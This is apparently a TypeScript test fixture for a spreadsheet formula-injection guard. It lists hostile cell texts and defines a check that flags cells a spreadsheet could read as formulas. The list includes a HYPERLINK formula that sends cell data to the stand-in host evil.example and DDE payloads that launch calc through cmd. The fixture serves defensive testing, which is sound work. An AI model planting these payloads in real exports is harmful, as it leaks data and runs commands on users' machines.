/**
 * Text that tries to become a formula in a spreadsheet, and the check that no cell does: shared
 * by the formula-guard tests and the CSV property test.
 */

/** Link titles, user agents and referers as an attacker would choose them. */
export const hostileTexts: readonly string[] = [
  'x,=1+1',
  'a;+cmd',
  '\t=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  ' =1',
  '\u00a0=1',
  '\u200b=1',
  '\u200d\u2060=1',
  '\ufeff=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '｜calc',
  '|calc',
  "=cmd|' /C calc'!A0",
  "x;=cmd|' /C calc'!A0",
  '@SUM(1)',
  '-2+3',
  '+31 20 123',
  '\r=1',
  'line\r=1+1',
  'line\n@SUM(1)',
  'line\r\n-1',
  '123;"a,=1+1"',
  'x,"=1+1"',
  'ua, \u00a0 ="a";\t+1',
  'a,,=1;;-1\t\t@1',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36',
  "'=already guarded",
];

const IGNORABLE = /^[ \u00A0\u200B-\u200D\u2060\uFEFF"]*/;
const TRIGGER = /^[=+\-@|\uFF1D\uFF0B\uFF0D\uFF20\uFF5C\t\r]/;
/** A number as the writer formats it (decimal point or comma): a number cell, never a formula. */
const NUMBER = /^-?\d+(?:[.,]\d+)?$/;

function startsWithTrigger(text: string): boolean {
  return TRIGGER.test(text.replace(IGNORABLE, '')) && !NUMBER.test(text.trim());
}

/**
 * True when a reader could take this cell, or a line of it, as a formula: after the characters a
 * reader trims or a person cannot see, it starts with a trigger, and it is not a plain number.
 */
export function exposedTrigger(cell: string): boolean {
  return [cell, ...cell.split(/\r\n|\r|\n/).slice(1)].some(startsWithTrigger);
}
